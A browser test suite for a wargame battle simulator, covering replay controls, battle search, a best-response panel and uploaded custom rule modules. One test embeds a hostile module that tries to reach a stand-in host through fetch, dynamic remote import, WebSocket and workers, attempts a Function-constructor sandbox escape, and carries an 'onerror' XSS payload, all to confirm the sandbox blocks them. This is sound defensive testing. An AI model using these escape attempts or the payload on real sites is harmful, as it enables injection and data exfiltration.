/** Replay, search, best response and custom modules, by mouse and keys. Needs Chromium. */
import type { Page } from 'playwright-core';
import { beforeEach, describe, expect, test } from 'vitest';
import { findBattles } from '../../src/analysis/find-battles.ts';
import { replay } from '../../src/analysis/replay.ts';
import { simulate } from '../../src/analysis/simulate.ts';
import { findBestResponseSync } from '../../src/environments/best-response/best-response.ts';
import { formatOutcome } from '../../src/report/sweep-analysis/outcome-text.ts';
import { isGame } from '../../src/rules/games.ts';
import { loadSystems } from '../../src/rules/load-systems.ts';
import { loadScenario } from '../../src/rules/scenario/index.ts';
import { DEPTH } from '../depth.ts';
import { example } from '../examples/files.ts';
import { inBrowser, MISSING, type Visit } from './browser.ts';

const GROUND = 'scenarios/phased-dice-ground.yaml';
const DIRECT = 'scenarios/attrition-direct.yaml';
/** Ten million battles take about 20 seconds. */
const SLOW = 'scenarios/attrition-mass.yaml';
const BATTERING = 'scenarios/cube-bag-battering.yaml';

const EVIL = `import { defineSystem, integer } from 'warpool/system';
const reached = [];
const attempt = async (name, act) => { try { await act(); reached.push(name); } catch {} };
await attempt('fetch', () => fetch('https://elsewhere.example/'));
await attempt('own query', () => fetch('/index.html?secret'));
await attempt('fetch of a realm', () => Object.getPrototypeOf(fetch).constructor('return fetch("https://elsewhere.example/")')());
await attempt('import', () => new Function('return import("https://elsewhere.example/x.js")')());
await attempt('socket', () => new WebSocket('wss://elsewhere.example/'));
await attempt('request', () => new XMLHttpRequest());
await attempt('store', () => indexedDB.open('x'));
await attempt('caches', () => caches.open('x'));
await attempt('worker', () => new Worker('https://elsewhere.example/x.js'));
await attempt('blob worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
export default defineSystem({
  id: 'evil', title: 'Reached: ' + reached.join(', ') + '.', about: '<img src=x onerror=alert(1)>',
  fields: { lives: integer(1, 3, 'Lives.').default(1) },
  decisions: [], rules: {}, examples: { '<b>one</b>': { lives: 1 } },
  battle: () => ({ outcomes: ['a'], start: () => 0, round: (at) => at + 1, outcome: (at) => (at > 0 ? 'a' : undefined) }),
});
`;

const reported = (page: Page) => page.getByRole('tabpanel');
const step = (page: Page) => reported(page).locator('.shown .lead');

describe.skipIf(MISSING || DEPTH === 1)('Battle, Best response and Custom rules panels', () => {
  const served = inBrowser();
  let here: Visit;

  beforeEach(async () => {
    here = await served.visit();
  });

  test('buttons and keys step through a battle and show its dice', async () => {
    const { page } = here;
    await page.goto(await served.link(GROUND, { panel: 'battle', notes: { battle: 4 } }));
    await step(page).waitFor();
    expect(await step(page).innerText()).toContain('The attack is on a settlement');
    await page.getByRole('button', { name: 'One step forward' }).click();
    await page.getByRole('button', { name: 'One step forward' }).click();
    const { events } = replay(await loadScenario(GROUND), { seed: 1, battle: 4 });
    const [first] = events.flatMap((event) => (event.kind === 'hits' ? [event] : []));
    expect(await reported(page).locator('.die').count()).toBe(first?.faces.length);
    expect(await reported(page).locator('.die.hit').count()).toBe(first?.hits);
    const pips = (first?.faces ?? []).reduce((sum, face) => sum + face, 0);
    expect(await reported(page).locator('.die .pip').count()).toBe(pips);
    const story = page.getByRole('listbox', { name: 'Replay' });
    await story.focus();
    const count = await story.getByRole('option').count();
    for (const [key, at] of [
      ['End', count],
      ['ArrowLeft', count - 1],
      ['Home', 1],
      ['ArrowDown', 2],
    ] as const) {
      await page.keyboard.press(key);
      await reported(page)
        .getByText(`step ${String(at)} of ${String(count)}`)
        .waitFor();
      expect(await story.locator('[aria-selected=true]').getAttribute('id')).toBe(`step-${String(at - 1)}`);
    }
    await page.getByRole('button', { name: 'Play', exact: true }).click();
    await reported(page)
      .getByText(`step 4 of ${String(count)}`)
      .waitFor();
    await page.getByRole('button', { name: 'Pause' }).click();
  });

  test('Find next opens the next battle that meets a condition, and the address stores it', async () => {
    const { page } = here;
    const where = 'outcome=defender && rounds>14';
    const { matches: found } = await findBattles(await loadScenario(DIRECT), { where, from: 1, limit: 2 });
    await page.goto(await served.link(DIRECT, { panel: 'battle' }));
    const field = page.getByLabel('Condition');
    await field.fill('outcome=nobody');
    await reported(page).getByText('condition:9: expected one of').waitFor();
    expect(await page.getByRole('button', { name: 'Find next' }).isDisabled()).toBe(true);
    await field.fill(where);
    for (const each of found) {
      await page.getByRole('button', { name: 'Find next' }).click();
      await page.getByRole('heading', { name: `Battle ${String(each.battle)} of seed 1`, exact: true }).waitFor();
    }
    await page.waitForFunction((before) => location.hash !== before, '');
    await page.waitForTimeout(1200);
    const again = await here.context.newPage();
    await again.goto(page.url());
    await again.getByRole('heading', { name: `Battle ${String(found[1]?.battle)} of seed 1`, exact: true }).waitFor();
    expect(await again.getByLabel('Condition').inputValue()).toBe(where);
  });

  test('a battle is printed completely, in light colors and without buttons', async () => {
    const { page } = here;
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.goto(await served.link(GROUND, { panel: 'battle' }));
    await reported(page).getByText('Unchanged: left.defender.dragoon 2. Always 0: named.attacker.cavalry.').waitFor();
    const story = page.getByRole('listbox', { name: 'Replay' });
    const hidden = () => story.evaluate((each) => each.scrollHeight - each.clientHeight);
    expect(await hidden()).toBeGreaterThan(0);
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
    expect(await hidden()).toBe(0);
    await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).color)).toBe('rgb(26, 26, 26)');
    for (const button of await page.locator('button').all()) expect(await button.isVisible()).toBe(false);
    await page.emulateMedia({ media: 'screen', colorScheme: 'dark' });
    await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).color)).toBe('rgb(232, 234, 237)');
  });

  test('the last battle number has no next battle', async () => {
    const { page } = here;
    await page.goto(await served.link(DIRECT, { panel: 'battle' }));
    await page.getByRole('textbox', { name: 'Battle', exact: true }).fill('9007199254740991');
    await reported(page).getByRole('heading', { name: 'Battle 9 007 199 254 740 991 of seed 1' }).waitFor();
    expect(await page.getByRole('button', { name: 'Next', exact: true }).isEnabled()).toBe(false);
  });

  test('a search without matches can be stopped', async () => {
    const { page } = here;
    await page.goto(await served.link(SLOW, { panel: 'battle' }));
    await page.getByLabel('Condition').fill('rounds>9999');
    await page.getByRole('button', { name: 'Find next' }).click();
    await reported(page).getByText('battles searched').waitFor();
    await reported(page).getByRole('button', { name: 'Stop' }).click();
    await reported(page).getByText('Stopped.').waitFor();
    expect(await page.getByRole('button', { name: 'Find next' }).isEnabled()).toBe(true);
  });

  test('the best response has the win probability of the library and lists all options', async () => {
    const { page } = here;
    const scenario = await loadScenario(BATTERING);
    const { outcomes } = findBestResponseSync(scenario);
    const best = outcomes.find(({ name }) => name === 'attacker')?.bestResponse ?? 0;
    await page.goto(await served.link(BATTERING, { panel: 'best-response' }));
    await reported(page)
      .getByText(`With its best response the attacker wins with probability ${(100 * best).toFixed(3)} %`)
      .waitFor();
    await page.getByRole('button', { name: 'Next decision' }).click();
    const table = reported(page).getByRole('table').first();
    // Options before the bag is filled: with or without the bonus of the army; later the number of drawn cubes.
    expect(await table.getByRole('rowheader').count()).toBe(2);
    const next = page.getByRole('button', { name: 'Next decision' });
    const options = async (): Promise<number> => {
      await next.click();
      return await table.getByRole('rowheader').count();
    };
    await expect.poll(options, { timeout: 20_000, interval: 500 }).toBe(9);
    expect(await table.locator('strong').innerText()).toContain('cubes:9');
    expect(await reported(page).locator('.cube').count()).toBe(9);
  });

  test('no best response is shown without decisions or with too many states', async () => {
    const { page } = here;
    await page.goto(await served.link(DIRECT, { panel: 'best-response' }));
    await reported(page).getByText('Players of this system make no decisions').waitFor();
    const other = await here.context.newPage();
    await other.goto(await served.link(GROUND, { panel: 'best-response' }));
    await other.getByText('No best response: ').waitFor();
    expect(await other.getByRole('button', { name: 'Try with 400 000 steps' }).isVisible()).toBe(true);
  });

  test.each([
    ['feint', 'feint-even', 'Duel of secret choices'],
    ['conquest-dice', 'conquest-dice-raid', 'Opposed sorted dice'],
    ['volley', 'volley-even', 'Hit, wound, save, morale'],
  ])('the module %s conforms and has the digest of the command line', async (module, name, title) => {
    const { page } = here;
    const [code, file] = [example(`${module}.mjs`), example(`${name}.yaml`)];
    const scenario = await loadScenario(file, { systems: await loadSystems([code]) });
    const { digest } = await simulate(scenario, { battles: 20_000, seed: 5 });
    await page.goto(await served.link(file, { panel: 'own', battles: 20_000, seed: '5' }));
    await page.getByLabel('Module with a system').setInputFiles(code);
    await reported(page).getByText(`${module}.mjs contains code.`).waitFor();
    expect(await page.getByRole('heading', { name: title }).count()).toBe(0);
    await page.getByRole('button', { name: `Run ${module}.mjs` }).click();
    await page.getByRole('heading', { name: title }).waitFor();
    await reported(page).getByText(`${module} conforms`).waitFor({ timeout: 60_000 });
    await page.getByRole('tab', { name: 'Answer' }).click();
    await reported(page).getByText(digest).first().waitFor();
    await reported(page).getByText(`--systems ${module}.mjs`).first().waitFor();
    await page.getByRole('tab', { name: 'Battle' }).click();
    await step(page).waitFor();
    const { outcome } = replay(scenario, { seed: 5 });
    const ending = page.getByRole('region', { name: 'Result' });
    await ending.getByText('Result', { exact: true }).click();
    await ending
      .getByText(new RegExp(formatOutcome(outcome), 'i'))
      .first()
      .waitFor();
    await page.getByRole('tab', { name: 'Custom rules' }).click();
    await page.getByRole('button', { name: 'Close the module' }).click();
    const isNamed: boolean = isGame(module);
    if (isNamed) {
      // The built-in system with the same name is used again.
      await page.getByRole('tab', { name: 'Answer' }).click();
      await reported(page).getByText(`warpool run ${name}.yaml --battles 20000`).first().waitFor();
      await reported(page).getByText(digest).first().waitFor();
    } else {
      await page.getByText(`found "${module}"`).first().waitFor();
    }
  });

  test('a module reaches neither network nor storage, and its names are shown as text', async () => {
    const { context, page, received } = here;
    await page.goto(await served.link(DIRECT, { panel: 'own' }));
    await page
      .getByLabel('Module with a system')
      .setInputFiles({ name: 'evil.js', mimeType: 'text/javascript', buffer: Buffer.from(EVIL) });
    await page.getByRole('button', { name: 'Run evil.js' }).click();
    await page.getByRole('heading', { name: 'Reached: .', exact: true }).waitFor();
    await reported(page)
      .getByText(/<img src=x onerror=alert\(1\)>/)
      .last()
      .waitFor();
    expect(await reported(page).locator('img').count()).toBe(0);
    expect(received.filter((each) => !each.includes('Content Security Policy'))).toEqual([]);
    await context.close();
  });

  test.each([
    [
      'import.js',
      "import fs from 'node:fs'; export default fs",
      "import.js:1:1: expected only imports of 'warpool/system'",
    ],
    ['broken.js', 'export default {', 'expected JavaScript'],
    ['empty.js', 'export default 1', 'empty.js: expected a module that exports a system'],
    ['throws.js', 'export default 1; throw new Error("no")', 'expected a module that can be loaded, found Error: no'],
    ['notes.txt', 'text', 'notes.txt: expected a JavaScript module'],
  ])('an invalid module is rejected with an error, and the page still works: %s', async (name, text, message) => {
    const { page } = here;
    await page.goto(await served.link(DIRECT, { panel: 'own', battles: 10_000 }));
    await page
      .getByLabel('Module with a system')
      .setInputFiles({ name, mimeType: 'text/javascript', buffer: Buffer.from(text) });
    const run = page.getByRole('button', { name: `Run ${name}` });
    const problem = reported(page).getByRole('alert').filter({ hasText: message });
    await run.or(problem).first().waitFor();
    if (await run.isVisible()) await run.click();
    await problem.waitFor();
    const { digest } = await simulate(await loadScenario(DIRECT), { battles: 10_000 });
    await page.getByRole('tab', { name: 'Answer' }).click();
    await reported(page).getByText(digest).first().waitFor();
  });
});
